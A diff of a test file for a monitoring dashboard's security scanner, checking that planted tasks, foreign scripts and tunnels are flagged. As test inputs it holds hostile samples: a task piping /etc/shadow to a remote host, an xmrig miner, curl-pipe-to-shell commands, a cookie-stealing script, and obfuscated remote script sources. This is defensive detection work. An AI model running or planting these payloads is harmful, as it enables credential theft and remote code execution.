@@ -48,18 +48,26 @@ test.each<[string, BackendOptions, string[]]>([
     { data: 'large' },
     [...anyInstall, 'failedMove', 'guesses', 'oldAgent', 'publicServers', 'stoppingRule', 'twinAgents', 'wideToken'],
   ],
-  ['a fleet made by hand', handmade, [...anyInstall, 'plantedTask', 'publicServers']],
+  ['a fleet made by hand', handmade, [...anyInstall, 'doubtfulTask', 'plantedTask', 'publicServers']],
 ])('security: %s is nothing to act on now, and only the expected things to look at', async (_, options, expected) => {
   const { urgent, lookAt } = await findingsOf(options)
   expect(urgent).toEqual([])
   expect(lookAt).toEqual(expected.toSorted())
 })
 
-const plantedTasks = ['AutoTask', 'mon-check', 'update', 'cache', 'report', 'perf', 'lock', 'unpack', 'agent']
+const plantedTasks = ['AutoTask', 'mon-check', 'update', 'cache', 'report', 'perf', 'lock', 'unpack', 'agent'].concat([
+  'cdn warmup',
+  'kernel tuning',
+  'security updates',
+  'restart app',
+])
+
+/** What starts them or takes the dashboard's requests, and where code comes from. */
+const plantedBeside = ['Load', 'Shop', 'web', 'status preview', 'foreignScript']
 
 test('security: everything that was planted on a current server is found', async () => {
   const { urgent, all } = await findingsOf({ data: 'compromised' })
-  expect(urgent.toSorted()).toEqual([...plantedTasks, 'web'].toSorted())
+  expect(urgent.toSorted()).toEqual([...plantedTasks, ...plantedBeside].toSorted())
   // Newer servers do not list such services; this page is opened by https at a private address.
   const absent = ['plantedService', 'plantedCode', 'plainPage', 'sharedAddress', 'forgeableAddress'].concat([
     'strangeSession',
@@ -77,25 +85,78 @@ test('security: everything that was planted on a current server is found', async
 test('security: a server of the first line has the hole that anybody can use, and lists the planted service', async () => {
   const { urgent } = await findingsOf({ data: 'compromised', dialect: 'classic' })
   expect(urgent.toSorted()).toEqual(
-    [...plantedTasks, 'web', 'probe', 'openFiles', 'sessionTakeover', 'tasksEverywhere'].toSorted(),
+    [...plantedTasks, ...plantedBeside, 'probe', 'openFiles', 'sessionTakeover', 'tasksEverywhere'].toSorted(),
   )
 })
 
 test('security: a harmless task of a compromised fleet is not doubted', async () => {
   const { findings } = examine(await factsFrom({ data: 'compromised' }))
   const doubted = findings.filter(({ check }) => check === 'plantedTask').map(({ record }) => record?.name)
-  expect(doubted).toHaveLength(11)
+  expect(doubted).toHaveLength(16)
   expect(doubted).not.toContain('Nightly backup')
+  expect(doubted).not.toContain('Install Docker')
+})
+
+const taskOf = async (task: object, options: BackendOptions = {}) => {
+  const { findings } = examine(await factsFrom({ ...options, seed: { cron: [{ name: 'setup', ...task }] } }))
+  return findings.find(({ record }) => record?.resource === 'cron')
+}
+
+test('security: an ordinary way to install is a medium one whatever the task covers, and theft never more than high', async () => {
+  const circumstances = { cover: 1, scheduler: '0 * * * * *', created_at: '2026-07-01T00:00:00Z' }
+  const docker = await taskOf({ command: 'curl -fsSL https://get.docker.com | sh', ...circumstances })
+  expect(docker).toMatchObject({ check: 'doubtfulTask', level: 'medium' })
+  const backup = await taskOf({ command: 'tar c /etc/shadow | curl -T - https://bk.example.net/', ...circumstances })
+  expect(backup).toMatchObject({ check: 'plantedTask', level: 'high' })
+})
+
+test('security: what starts a task has its level', async () => {
+  const trigger = async (command: string) => {
+    const seed = {
+      cron: [{ id: 1, name: 'repair', task_type: 1, command }],
+      alert_rule: [{ name: 'memory', fail_trigger_tasks: [1] }],
+    }
+    return examine(await factsFrom({ seed })).findings.find(({ check }) => check === 'plantedTrigger')
+  }
+  expect(await trigger('./xmrig')).toMatchObject({ level: 'critical', record: { name: 'memory' } })
+  expect(await trigger('curl -fsSL https://get.docker.com | sh')).toMatchObject({ level: 'medium' })
+  expect(await trigger('systemctl restart app')).toBeUndefined()
+})
+
+test('security: what was created within a day of something planted is named once, and nothing without that', async () => {
+  const at = (hours: number) => new Date(Date.parse('2026-06-17T08:00:00Z') + hours * 3_600_000).toISOString()
+  const beside = async (command: string) => {
+    const seed = {
+      cron: [
+        { name: 'setup', command, created_at: at(0) },
+        { name: 'cleanup', command: 'apt-get clean', created_at: at(20) },
+        { name: 'backup', command: './backup.sh', created_at: at(-30) },
+      ],
+      api_token: [{ name: 'exporter', scopes: ['nezha:server:read'], created_at: at(-3) }],
+    }
+    return examine(await factsFrom({ seed })).findings.filter(({ check }) => check === 'besidePlanted')
+  }
+  expect(await beside('./xmrig')).toMatchObject([
+    {
+      level: 'medium',
+      record: { name: 'setup' },
+      evidence: [
+        { resource: 'api-tokens', text: 'exporter' },
+        { resource: 'cron', text: 'cleanup' },
+      ],
+    },
+  ])
+  expect(await beside('curl -fsSL https://get.docker.com | sh')).toEqual([])
 })
 
 test('security: a changed command gets another mark, and the same one keeps its mark', async () => {
-  const mark = async (command: string) => {
-    const { findings } = examine(await factsFrom({ seed: { cron: [{ name: 'setup', command }] } }))
-    return findings.find(({ check }) => check === 'plantedTask')?.mark
-  }
-  const own = await mark('curl https://example.com/a | sh')
-  expect(await mark('curl https://example.com/a | sh')).toBe(own)
-  expect(await mark('curl https://example.com/b | sh')).not.toBe(own)
+  const command = 'curl https://example.com/a | sh'
+  const own = await taskOf({ command })
+  expect((await taskOf({ command }))?.mark).toBe(own?.mark)
+  const changed = await taskOf({ command: 'curl https://example.com/b | sh' })
+  expect(changed?.mark).not.toBe(own?.mark)
+  expect(changed?.about).toBe(own?.about)
+  expect((await taskOf({ command, cover: 1 }))?.mark).not.toBe(own?.mark)
 })
 
 test('security: members learn what could not be read, and nothing is concluded from it', async () => {
@@ -133,7 +194,8 @@ test.each([
 
 test.each([
   ['<b>Hello</b>', 'medium', []],
-  ['<script src="https://stats.example.com/a.js"></script>', 'high', ['stats.example.com']],
+  ['<style>b { color: teal }</style>\n<!-- ours --><style>i { margin: 0 }</style>', 'info', []],
+  ['<style>@import url(https://x.example.com/a.css);</style>', 'medium', []],
   [
     '<script>fetch("https://x.example.com/?c=" + document.cookie)</script>',
     'high',
@@ -144,6 +206,33 @@ test.each([
   const facts = await factsFrom({ setting: { custom_code_dashboard } })
   const found = examine(facts).findings.find(({ check }) => check === 'customCode')
   expect(found).toMatchObject({ level, evidence: evidence.map((text) => ({ text })) })
+})
+
+test.each([
+  ['custom_code_dashboard', '<script src="https://stats.example.com/a.js"></script>', 'high', 'stats.example.com'],
+  ['custom_code', '<script src="https://stats.example.com/a.js"></script>', 'medium', 'stats.example.com'],
+  ['custom_code', '<script async src=//198.51.100.23/a.js></script>', 'critical', '198.51.100.23'],
+  [
+    'custom_code_dashboard',
+    '<script src="//cdn.example@198.51.100.23:81/a.js"></script>',
+    'critical',
+    '198.51.100.23:81',
+  ],
+  ['custom_code_dashboard', '<script src="//3325256727/a.js"></script>', 'critical', '198.51.100.23'],
+  ['custom_code_dashboard', '<script src="//192.168.1.4/a.js"></script>', 'high', '192.168.1.4'],
+  ['custom_code_dashboard', '<script type=module>import "https://a.example/x.js"</script>', 'high', 'a.example'],
+  ['custom_code_dashboard', '<script>s.src = "//a.example/x.js"</script>', 'high', 'a.example'],
+] as const)('security: a script in %s from elsewhere: %s is %s', async (name, code, level, host) => {
+  const { findings } = examine(await factsFrom({ setting: { [name]: code } }))
+  expect(findings.filter(({ setting }) => setting === name)).toMatchObject([
+    { check: 'foreignScript', level, args: { host } },
+  ])
+})
+
+test('security: a script of the dashboard itself is only custom code', async () => {
+  const custom_code_dashboard = '<script src="https://127.0.0.1:8008/a.js"></script>'
+  const { findings } = examine(await factsFrom({ setting: { custom_code_dashboard } }))
+  expect(findings.filter(({ setting }) => setting === 'custom_code_dashboard')).toMatchObject([{ check: 'customCode' }])
 })
 
 test.each([
@@ -166,4 +255,18 @@ test('security: a tunnel with the name of the dashboard is found however it is w
   const page = { protocol: 'https:', host: 'Dash.example.com:8443' }
   const seed = { nat: [{ name: 'web', domain: 'dash.example.com.' }] }
   expect((await findingsOf({ seed }, { page })).urgent).toEqual(['web'])
+})
+
+test.each([
+  ['localhost:8008', true],
+  ['127.0.0.1', true],
+  ['[::1]:8008', true],
+  ['Agents.example.com', true],
+  ['panel.example.com', true],
+  ['grafana.example.org', false],
+])('security: a tunnel for %s stands before the dashboard: %s', async (domain, isFound) => {
+  const setting = { install_host: 'agents.example.com:443', reserved_hosts: 'x.example.com, panel.example.com' }
+  const page = { protocol: 'https:', host: 'dash.example.com' }
+  const { urgent } = await findingsOf({ setting, seed: { nat: [{ name: 'web', domain }] } }, { page })
+  expect(urgent).toEqual(isFound ? ['web'] : [])
 })
